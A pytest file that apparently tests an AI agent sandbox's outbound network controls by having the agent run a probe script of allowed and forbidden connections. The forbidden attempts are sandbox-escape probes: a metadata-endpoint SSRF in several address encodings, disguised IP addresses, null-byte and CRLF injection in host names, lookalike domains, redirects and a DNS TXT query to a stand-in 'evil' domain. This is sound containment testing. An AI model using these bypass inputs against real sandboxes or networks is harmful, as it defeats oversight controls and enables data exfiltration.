"""`allowed_hosts` with wildcards and ports, and `network_mode: full`, tried from inside by the real agent.

Server and internet live in two namespaces of the test's own; every packet that reaches the internet is seen.
"""

import json

import pytest

from doubles import played_host
from doubles.closed_internet import METADATA_ADDRESS, PRIVATE_ADDRESS
from doubles.egress_probe import PROBE, TOLD
from doubles.live import make_repository, python, says
from doubles.played_internet import make_certificate, played_internet, start_host

HOST, DEEP, SSH, HTTP2 = "files.example.org", "a.b.example.org", "git.example.net", "h2.example.net"
HOST_ADDRESS, SERVICES_ADDRESS, OWN_ADDRESS = "8.8.4.4", "8.8.4.6", "8.8.4.5"
MODEL = "model.example.com"
TO_HOST = (
    HOST,
    DEEP,
    SSH,
    HTTP2,
    "example.org",
    "notexample.org",
    "a.example.org.evil.example.com",
    "other.example.com",
)
NAMES = {
    **dict.fromkeys(TO_HOST, HOST_ADDRESS),
    **dict.fromkeys((MODEL, "alias.example.com"), SERVICES_ADDRESS),
    "inside.example.com": PRIVATE_ADDRESS,
    "metadata.example.com": METADATA_ADDRESS,
    "own.example.com": OWN_ADDRESS,
    "intranet": HOST_ADDRESS,
    "files.internal": HOST_ADDRESS,
}
OUTBOUND = {
    "network_mode": "outbound",
    "allowed_hosts": ["*.example.org", f"{HOST}:8443", f"{HOST}:8080", f"{SSH}:22", f"{HTTP2}:9443", MODEL],
}
FULL = {"network_mode": "full"}

REACHES = rf"""
HOST, DEEP, SSH, HTTP2 = {HOST!r}, {DEEP!r}, {SSH!r}, {HTTP2!r}
for scheme in ("https", "http"):
    url = f"{{scheme}}://{{DEEP}}/a"
    attempt(f"yes: curl {{scheme}} by proxy", curl, url)
    attempt(f"yes: curl {{scheme}} direct", direct, url)
    attempt(f"yes: python {{scheme}} by proxy", python, url)
    attempt(f"yes: python {{scheme}} direct", python, url, DIRECT)
    attempt(f"yes: node {{scheme}} direct", node, url, DIRECT)
attempt("yes: node https by proxy", lambda: node(f"https://{{DEEP}}/a", NODE_USE_ENV_PROXY="1"))
attempt("git: https by proxy", git, f"https://{{HOST}}/repo.git")
attempt("git: https direct", git, f"https://{{HOST}}/repo.git", DIRECT)
attempt("git: http by proxy", git, f"http://{{HOST}}/repo.git")
attempt("git: http direct", git, f"http://{{HOST}}/repo.git", DIRECT)
attempt("yes: upper case", curl, f"https://{{DEEP.upper()}}/a")
attempt("yes: final dot", direct, f"http://{{DEEP}}./a")
attempt("yes: https at another port by proxy", curl, f"https://{{HOST}}:8443/a")
attempt("yes: http at another port by proxy", curl, f"http://{{HOST}}:8080/a")
attempt("ssh: by proxy", lambda: conversation(connect(SSH, 22), b"SSH-2.0-me\r\n"))
attempt("ssh: direct", lambda: conversation(socket.create_connection((SSH, 22), 15), b"SSH-2.0-me\r\n"))
attempt("http2: by proxy", curl, "--http2", f"https://{{HTTP2}}:9443/a")
attempt("websocket: by proxy", lambda: websocket(connect(HOST, 443), HOST))
attempt("websocket: direct", lambda: websocket(socket.create_connection((HOST, 443), 15), HOST))
"""

NEVER = rf"""
MODEL, PORT = {MODEL!r}, int(MODEL_PORT)
attempt("no: private address", curl, "http://inside.example.com/x")
attempt("no: private address direct", direct, "http://inside.example.com/x")
attempt("no: metadata", curl, "http://metadata.example.com/x")
attempt("no: the server's own", curl, "http://own.example.com/x")
attempt("no: loopback", curl, "--proxy", "http://127.0.0.1:3128", "--noproxy", "", "http://localhost/x")
attempt("no: model by name", curl, f"http://{{MODEL}}:{{PORT}}/x")
attempt("no: model by another name", curl, f"http://alias.example.com:{{PORT}}/x")
attempt("no: model by its address", lambda: connect({SERVICES_ADDRESS!r}, PORT))
attempt("no: model in a tunnel", lambda: connect(MODEL, PORT))
attempt("no: model at 443", lambda: connect(MODEL, 443))
GET = b"GET /x HTTP/1.1\r\nHost: o.example.com\r\n\r\n"
attempt("no: other name in tunnel", lambda: secure(connect(HOST, 443), "other.example.com", GET, check=False))
attempt("no: other host at another port", lambda: exchange(connect(HOST, 8080), GET))
attempt("no: disguised address", lambda: connect("134744068", 80))
attempt("no: disguised address in hex", lambda: connect("0x08080404", 80))
attempt("no: zero in host", lambda: connect(HOST + "\0.evil.example", 443))
attempt("no: line end in host", lambda: connect(HOST + "\r\nX: evil.example", 443))
attempt("no: datagram", datagram, {HOST_ADDRESS!r}, 443)
attempt("no: datagram to a name", lambda: datagram(resolve(HOST), 443))
attempt("no: IPv6", lambda: socket.create_connection(("2001:4860:4860::8888", 443), 3))
attempt("no: address direct", direct, "-k", "http://{HOST_ADDRESS}/x")
attempt("no: one label", resolve, "intranet")
attempt("no: one label by proxy", curl, "http://intranet/x")
attempt("no: internal domain", resolve, "files.internal")
attempt("no: metadata name", resolve, "metadata.google.internal")
attempt("names: text record", lambda: ask_names(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\3net\0\0\20\0\1"))
"""

ONLY_LISTED = r"""
attempt("no: the domain itself", curl, "https://example.org/x")
attempt("no: the domain itself direct", direct, "http://example.org/x")
attempt("no: a domain that ends alike", curl, "https://notexample.org/x")
attempt("no: a domain that begins alike", curl, "https://a.example.org.evil.example.com/x")
attempt("no: other host", curl, "https://other.example.com/x")
attempt("no: other name", resolve, "other.example.com")
attempt("no: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com")
attempt("no: redirect elsewhere direct", direct, "-L", f"http://{HOST}/away/other.example.com")
attempt("no: port of another host", curl, f"https://{DEEP}:8443/x")
attempt("no: port of another host direct", direct, f"https://{DEEP}:8443/x")
attempt("no: 443 where a port is given", curl, f"https://{SSH}/x")
attempt("no: port that nobody has", direct, f"https://{HOST}:9000/x")
attempt("no: address by proxy", lambda: connect("8.8.4.4", 443))
attempt("http2: direct", direct, "--http2", f"https://{HTTP2}:9443/a")
attempt("yes: https at another port direct", direct, f"https://{HOST}:8443/a")
attempt("yes: http at another port direct", direct, f"http://{HOST}:8080/a")
"""

EVERYTHING = r"""
attempt("yes: any host by proxy", curl, "https://other.example.com/a")
attempt("yes: any host direct", direct, "http://other.example.com/a")
attempt("yes: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com?a")
attempt("yes: address by proxy", curl, "-k", "https://8.8.4.4/a")
attempt("yes: plain address by proxy", curl, "http://8.8.4.4:8080/a")
attempt("no: private by proxy", lambda: connect("10.1.2.3", 80))
attempt("no: metadata by proxy", lambda: connect("169.254.169.254", 80))
attempt("no: loopback by proxy", lambda: connect("127.0.0.1", 8123))
attempt("no: loopback in IPv6 by proxy", lambda: connect("[::1]", 80))
attempt("no: mapped metadata by proxy", lambda: connect("[::ffff:169.254.169.254]", 80))
attempt("no: NAT64 metadata by proxy", lambda: connect("[64:ff9b::a9fe:a9fe]", 80))
attempt("no: 6to4 metadata by proxy", lambda: connect("[2002:a9fe:a9fe::1]", 80))
attempt("no: the server's address by proxy", lambda: connect("8.8.4.5", 80))
attempt("no: port without proxy", direct, f"https://{HOST}:8443/x")
"""

SCENES = {"outbound": (OUTBOUND, ONLY_LISTED), "full": (FULL, EVERYTHING)}


@pytest.fixture(scope="module", params=SCENES)
def outcome(request, tmp_path_factory):
    """What an agent saw that tried everything, what the host saw, what was on the wire and what was told."""
    directory = tmp_path_factory.mktemp(request.param)
    places = {"addresses": [HOST_ADDRESS, SERVICES_ADDRESS], "own_addresses": [OWN_ADDRESS]}
    with played_internet(directory, NAMES, **places, services_at=SERVICES_ADDRESS) as (world, internet):
        yield play(world, internet, directory, *SCENES[request.param])


def play(world, internet, directory, vm, attempts):
    certificate, record = directory / "host.pem", directory / "host.ndjson"
    public = make_certificate(certificate, *TO_HOST)
    make_repository(world.repositories / "repo.git", {"README.md": "# Hi\n", "ca.pem": public})
    world.start_git(prefix=internet.internet_prefix)
    script = f"{PROBE}\nMODEL_PORT = open('/workspace/port').read()\n{REACHES}\n{attempts}\n{NEVER}\n{TOLD}"
    world.start_model(python(script), says(), prefix=internet.internet_prefix)
    port = world.model_url.rpartition(":")[2]
    make_repository(world.repositories / "task.git", {"port": port, "ca.pem": public})
    start_host(world, internet, HOST_ADDRESS, certificate, record)
    world.start_server(ANTHROPIC_BASE_URL=f"http://{MODEL}:{port}")
    before = len(internet.packets)
    world.submit(vm=vm, repository={"url": "https://github.com/org/task.git"})
    status = world.wait(seconds=180)
    assert status["state"] == "completed", world.tell()
    answer = world.tool_results()[0]
    assert answer.startswith("{"), answer
    return {
        "told": json.loads(answer),
        "asked": [json.loads(line) for line in record.read_text().splitlines()],
        "denied": [frame for frame in world.frames() if frame["type"] == "egress_denied"],
        "sent": set(internet.packets[before:]),
        "model_asked": [request for request in world.model_requests() if request["method"] != "POST"],
        "services": {
            ("tcp", SERVICES_ADDRESS, int(process.said["url"].rpartition(":")[2]))
            for process in world.processes
            if "url" in process.said
        },
        "status": status,
        "metadata": json.loads(world.artifact("metadata.json")),
    }


def answers(outcome, kind):
    found = {name: answer for name, answer in outcome["told"].items() if name.startswith(f"{kind}:")}
    assert found
    return found


def test_what_is_allowed_is_reached_by_curl_python_and_node_with_and_without_the_proxy(outcome):
    assert {name: answer for name, answer in answers(outcome, "yes").items() if '"path": "/a"' not in answer} == {}


def test_git_reads_from_what_is_allowed_with_and_without_the_proxy(outcome):
    refs = f"{played_host.COMMIT}\trefs/heads/main\n"
    assert {name: answer for name, answer in answers(outcome, "git").items() if refs not in answer} == {}


def test_a_host_that_speaks_first_is_heard(outcome):
    greeted = f"{played_host.GREETING.decode().strip()}, SSH-2.0-me"
    assert set(answers(outcome, "ssh").values()) == {greeted}


def test_http2_and_websocket_pass_inside_tls(outcome):
    assert set(answers(outcome, "http2").values()) == {"HTTP 2.0 /a"}
    assert set(answers(outcome, "websocket").values()) == {"101 a frame"}


def test_nothing_else_answers(outcome):
    for name, answer in answers(outcome, "no").items():
        assert '"path"' not in answer, (name, answer)
        refused = answer.startswith(("exit ", "gaierror", "TimeoutError")) or "Error: " in answer
        assert refused or not answer or "Sandbox refused " in answer or "does not resolve" in answer, (name, answer)
    assert outcome["told"]["names: text record"] in (0, 3), "no record, or no such name"


def test_the_host_was_asked_for_nothing_that_was_refused(outcome):
    lines = [line for _, line, _ in outcome["asked"]]
    assert any("/a " in line for line in lines)
    assert not any("/x" in line and "/away/" not in line for line in lines)


def test_the_model_was_reached_by_claude_code_only(outcome):
    assert outcome["model_asked"] == []
    assert "the model" in " ".join(one["reason"] for one in outcome["denied"])


def test_each_refusal_is_told_and_counted(outcome):
    hosts = {one["host"] for one in outcome["denied"]}
    assert {"inside.example.com", "metadata.example.com", "own.example.com", MODEL, "134744068"} <= hosts
    total = outcome["metadata"]["refusals_total"]
    assert total >= len(outcome["denied"]) >= 15
    assert outcome["status"]["progress"]["egress_denied"] == total


def test_nothing_else_was_on_the_wire(outcome):
    to_host = {("tcp", HOST_ADDRESS, port) for port in (22, 80, 443, 8080, 8443, 9443)}
    assert to_host <= outcome["sent"]
    assert outcome["sent"] <= outcome["services"] | to_host
